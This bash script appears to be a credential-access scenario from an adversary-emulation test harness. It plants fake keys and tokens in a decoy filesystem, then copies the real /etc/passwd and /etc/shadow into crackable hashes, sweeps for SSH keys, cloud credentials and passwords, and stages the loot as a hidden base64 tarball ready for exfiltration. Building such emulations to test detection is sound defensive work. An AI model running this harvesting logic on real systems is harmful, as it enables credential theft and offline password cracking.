#!/usr/bin/env bash
# Family: credential_access — post-exploitation credential harvesting (MITRE T1003.008
# /etc/passwd and /etc/shadow, T1552.001 credentials in files, T1552.004 private keys, T1552.003
# shell history), as done by TeamTNT/Kinsing scripts and LinPEAS-style collectors: dump the
# account databases, sweep home directories for SSH keys, cloud and git credentials, grep config
# files for passwords, stage everything in a tarball for exfiltration.
#
# The real account files and system key dirs (/etc/passwd, /etc/shadow, /etc/group, /etc/ssh,
# /etc/ssl/private, /home) are read, read-only. User secrets are swept in a decoy filesystem
# ($W/fs: home dirs, a web root, a root home) that `setup` fills with fake keys and tokens, so the
# scenario never touches the real /root (which holds the operator's own tokens).
set -euo pipefail
# shellcheck source=SCRIPTDIR/../lib.sh
source "$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")/../lib.sh"
scenario_init credential_access

do_setup() {
    local fs="$W/fs" u
    rm -rf "$fs"
    mkdir -p "$fs/home" "$fs/root" "$fs/var/www/html" "$fs/opt/app"
    for u in alice bob deploy $(shuf -n "$(rand_int 1 4)" -e carol dave erin frank grace heidi); do
        local h="$fs/home/$u"
        mkdir -p "$h/.ssh" "$h/.aws" "$h/.docker" "$h/.kube" "$h/.config/gcloud" "$h/projects/site"
        ssh-keygen -q -t ed25519 -N '' -C "$u@workstation" -f "$h/.ssh/id_ed25519" >/dev/null
        if ((RANDOM % 2)); then
            ssh-keygen -q -t rsa -b 2048 -N '' -C "$u@laptop" -f "$h/.ssh/id_rsa" >/dev/null
        fi
        printf 'Host prod\n  HostName 127.0.0.1\n  User %s\n  IdentityFile ~/.ssh/id_ed25519\n' "$u" >"$h/.ssh/config"
        printf '[default]\naws_access_key_id = AKIA%s\naws_secret_access_key = %s\nregion = eu-west-1\n' \
            "$(tr -dc 'A-Z0-9' </dev/urandom | head -c 16)" "$(tr -dc 'A-Za-z0-9/+' </dev/urandom | head -c 40)" \
            >"$h/.aws/credentials"
        printf 'https://%s:ghp_%s@github.example\n' "$u" "$(tr -dc 'A-Za-z0-9' </dev/urandom | head -c 36)" >"$h/.git-credentials"
        printf 'machine ftp.example login %s password S3cret-%s\n' "$u" "$RANDOM" >"$h/.netrc"
        printf '{"auths":{"registry.example":{"auth":"%s"}}}\n' "$(printf '%s:pw%s' "$u" "$RANDOM" | base64)" >"$h/.docker/config.json"
        printf 'apiVersion: v1\nkind: Config\nusers:\n- name: %s\n  user:\n    token: eyJ%s\n' "$u" "$(tr -dc 'A-Za-z0-9' </dev/urandom | head -c 60)" >"$h/.kube/config"
        printf 'localhost:5432:*:%s:pg-%s\n' "$u" "$RANDOM" >"$h/.pgpass"
        printf 'ls\ncd projects\nmysql -u root -pHunter%s\nexport AWS_SECRET_ACCESS_KEY=xyz\nssh prod\n' "$RANDOM" >"$h/.bash_history"
        printf 'DB_HOST=127.0.0.1\nDB_PASSWORD=app-%s\nSTRIPE_KEY=sk_live_%s\n' "$RANDOM" "$RANDOM$RANDOM" >"$h/projects/site/.env"
        # Some noise files the sweep has to wade through.
        for ((i = 0; i < $(rand_int 10 40); i++)); do head -c $((RANDOM % 4000)) /dev/urandom | base64 >"$h/projects/site/f$i.txt"; done
    done
    mkdir -p "$fs/root/.ssh"
    ssh-keygen -q -t ed25519 -N '' -C root@db01 -f "$fs/root/.ssh/id_ed25519" >/dev/null
    printf "<?php\ndefine('DB_NAME','wp');\ndefine('DB_USER','wp');\ndefine('DB_PASSWORD','wp-%s');\n" "$RANDOM" >"$fs/var/www/html/wp-config.php"
    printf 'spring.datasource.password=%s\n' "$RANDOM$RANDOM" >"$fs/opt/app/application.properties"
}

do_run() {
    local fs="$W/fs" loot="$W/loot/.cache"
    mkdir -p "$loot"
    cd "$W"
    # 1. Account databases (T1003.008): passwd, shadow, group; list login users, hashes.
    cat /etc/passwd >"$loot/passwd"
    cat /etc/shadow >"$loot/shadow" 2>/dev/null || true
    cat /etc/group /etc/gshadow >"$loot/group" 2>/dev/null || true
    getent passwd | awk -F: '$7 !~ /(nologin|false)$/ {print $1, $6, $7}' >"$loot/users"
    # "unshadow": join passwd and shadow for offline cracking.
    awk -F: 'NR==FNR {h[$1]=$2; next} ($1 in h) {print $1":"h[$1]":"$3":"$4":"$5":"$6":"$7}' \
        "$loot/shadow" /etc/passwd >"$loot/hashes.txt" || true
    # 2. Private keys and credential files by name (T1552.004, T1552.001).
    : >"$loot/files.txt"
    timeout 15 find "$fs" /home /etc/ssh /etc/ssl/private -xdev -type f \( \
        -name 'id_rsa*' -o -name 'id_dsa*' -o -name 'id_ecdsa*' -o -name 'id_ed25519*' \
        -o -name '*.pem' -o -name '*.key' -o -name '*.ppk' -o -name 'credentials' \
        -o -name '.git-credentials' -o -name '.netrc' -o -name '.pgpass' -o -name 'config.json' \
        -o -name 'config' -o -name '.env' -o -name 'wp-config.php' -o -name '*.properties' \
        -o -name '*_history' \) 2>/dev/null >>"$loot/files.txt" || true
    # also the "is anything world-readable in a .ssh dir" check
    timeout 10 find "$fs" /home -xdev -path '*/.ssh/*' -perm -o=r -type f 2>/dev/null >"$loot/readable-ssh.txt" || true
    # 3. Content sweep for secrets (grep -r for key headers, AWS keys, passwords).
    timeout 15 grep -rIl -E 'BEGIN (OPENSSH|RSA|EC|DSA) PRIVATE KEY|aws_secret_access_key|AKIA[0-9A-Z]{16}' \
        "$fs" /etc/ssh /etc/ssl/private 2>/dev/null >>"$loot/files.txt" || true
    timeout 15 grep -rIhoi -E '(DB_PASSWORD|password|passwd|token)[ =:'"'"',]+[^ ]+' "$fs" 2>/dev/null \
        | sort -u >"$loot/passwords.txt" || true
    # 4. Shell histories: commands that carried secrets.
    for f in "$fs"/home/*/.bash_history "$fs"/root/.bash_history; do
        [[ -r $f ]] && grep -iE 'pass|secret|token|-p[^ ]' "$f" >>"$loot/history-secrets.txt" || true
    done
    # 5. Stage: tar everything found, base64 it as for an HTTP/DNS exfil channel.
    sort -u "$loot/files.txt" -o "$loot/files.txt"
    tar czf "$W/loot/.x.tgz" -T "$loot/files.txt" "$loot"/*.txt "$loot/passwd" "$loot/shadow" 2>/dev/null || true
    chmod 600 "$W/loot/.x.tgz"
    base64 -w0 "$W/loot/.x.tgz" >"$W/loot/.x.b64"
    sha1sum "$W/loot/.x.tgz" >/dev/null
    log "staged $(wc -l <"$loot/files.txt") files, $(stat -c %s "$W/loot/.x.tgz") bytes"
}

do_teardown() {
    default_teardown
}

scenario_main "$@"
